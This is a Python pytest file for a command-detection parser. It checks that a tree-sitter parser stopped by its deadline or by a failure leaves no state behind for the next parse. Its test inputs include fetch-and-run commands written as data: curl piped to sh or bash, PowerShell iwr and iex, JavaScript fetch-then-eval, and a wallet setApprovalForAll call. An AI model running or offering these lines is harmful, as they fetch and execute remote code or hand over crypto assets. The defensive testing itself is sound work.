"""grammar.parse keeps one tree-sitter parser per grammar and thread. Whatever one parse leaves
in it (stopped by its deadline at any point, in a re-read of PowerShell's "$"s or bash's "#"s,
or failed) must never reach the next text: the next tree is the one a fresh parser gives.

The deadline is driven by a clock that counts its looks (as in test_hostile.py), so where the
parse stops is drawn by hypothesis, not by the machine's speed.
"""

from __future__ import annotations

import types

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.detection.interpret import grammar

GRAMMARS = ["powershell", "bash", "javascript"]
# long texts of each grammar's awkward parts: bare "$" paths PowerShell re-reads, "#"s bash
# re-reads, unclosed quotes and nesting
LONG = {
    "powershell": "; ".join(
        f'$v{i} = "{i}" + (Get-Item "C:\\d{i}\\$x.txt").Length; iwr $u{i}$ -OutFile $env:TEMP\\a'
        for i in range(600)
    ),
    "bash": "\n".join(
        f'x{i}=$(echo "a#{i}" ${{y#*/}}) # c{i}\ncurl -s http://192.0.2.{i % 250}/a#b | sh'
        for i in range(600)
    ),
    "javascript": ";".join(f"var a{i}=`${{(function(){{return '{i}'}})()}}`" for i in range(600)),
}
SHORT = {
    "powershell": st.sampled_from(
        ['iwr "https://example.test/a.ps1" -OutFile $env:TEMP\\a.ps1', "Get-Item C:\\$x\\y",
         "$a = @{b=1}; $a.b", "powershell -NoExit Get-ChildItem", '"unclosed', "", "\x00$",
         # PowerShell -c's script as CommandLineToArgvW hands it over, an applet's tab apart
         'echo ok\\ ; iex (b)', 'echo ok\\" ; iex (b)"', "mmsys.cpl ,1",
         "eventvwr.msc /c:Application"]
    ),
    "bash": st.sampled_from(
        ["curl -fsSL https://example.test/i.sh | bash", "echo a#b # c", "x=${y#*/}; echo $x",
         "cat <<EOF\n$(id)\nEOF", "'unclosed", "", "\x00#",
         "pip install git+https://github.com/acme-test/widget.git@fix-typo",
         "curl -sfL https://get.k3s.io:8443/ | sh -"]
    ),
    "javascript": st.sampled_from(
        ["fetch('https://example.test/a').then(r=>r.text()).then(eval)", "`${a}`", "/*", "",
         "\x00", "contract.setApprovalForAll('0x5555000000000000000000000000000000000042', !0)",
         "(0, eval)(await (await fetch(u)).text())",
         "new Function(await fetch(u).then(r => r.text()))()"]
    ),
}  # fmt: skip


class Looks:
    """The parse's CPU clock: still until `stop_after` looks, then far past any deadline."""

    def __init__(self) -> None:
        self.looks = 0
        self.stop_after: int | None = None

    def __call__(self) -> float:
        self.looks += 1
        if self.stop_after is None or self.looks <= self.stop_after:
            return 0.0
        return 1e6 * self.looks


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch) -> Looks:
    looks = Looks()
    monkeypatch.setattr(
        grammar, "time", types.SimpleNamespace(perf_counter=lambda: 0.0, thread_time=looks)
    )
    monkeypatch.setattr(grammar, "WALL_MARGIN_S", 1e9)  # every progress call reads the clock
    return looks


def fresh(name: str, text: str) -> str | None:
    """The tree a parser that never parsed anything before gives."""
    kept = getattr(grammar._parsers, "by_name", {})
    kept.pop(name, None)
    found = grammar.parse(name, text)
    return None if found is None else str(found[0].root_node)


def tree(name: str, text: str) -> str | None:
    found = grammar.parse(name, text)
    return None if found is None else str(found[0].root_node)


@pytest.mark.parametrize("name", GRAMMARS)
def test_the_long_texts_are_long_enough_to_be_stopped(clock: Looks, name: str) -> None:
    clock.stop_after = None
    assert grammar.parse(name, LONG[name]) is not None
    whole = clock.looks
    assert whole > 20, whole  # the parse looks at its deadline many times on the way
    clock.looks, clock.stop_after = 0, whole // 2
    assert grammar.parse(name, LONG[name]) is None  # stopped half way


@pytest.mark.parametrize("name", GRAMMARS)
@given(data=st.data(), stop=st.integers(min_value=0, max_value=400))
# the clock is set afresh at each step of each example
@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_after_a_parse_stopped_anywhere_the_next_tree_is_a_fresh_parsers(
    clock: Looks, name: str, data: st.DataObject, stop: int
) -> None:
    text = data.draw(SHORT[name])
    clock.looks, clock.stop_after = 0, None
    expected = fresh(name, text)
    clock.looks, clock.stop_after = 0, stop
    stopped = grammar.parse(name, LONG[name] + data.draw(st.text(max_size=20)))
    clock.looks, clock.stop_after = 0, None
    assert tree(name, text) == expected, (stop, stopped is None)
    # and the long text itself, read again in full, is the fresh parser's tree
    assert tree(name, LONG[name]) == fresh(name, LONG[name])


@pytest.mark.parametrize("name", GRAMMARS)
def test_after_a_failed_parse_the_next_tree_is_a_fresh_parsers(
    clock: Looks, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    text = "echo ok" if name != "javascript" else "f(1)"
    expected = fresh(name, text)
    calls = 0

    def broken(_offset: int, _has_error: bool) -> bool:
        nonlocal calls
        calls += 1
        if calls == 5:
            raise RuntimeError("a callback that fails part way")
        return False

    real = grammar.Parser.parse

    def parse(self: grammar.Parser, source: object, **kwargs: object) -> object:
        return real(self, source, progress_callback=broken)  # type: ignore[call-overload]

    monkeypatch.setattr(grammar.Parser, "parse", parse)
    assert grammar.parse(name, LONG[name]) is None
    assert calls >= 5  # the barrier: it really failed part way
    monkeypatch.undo()
    assert tree(name, text) == expected
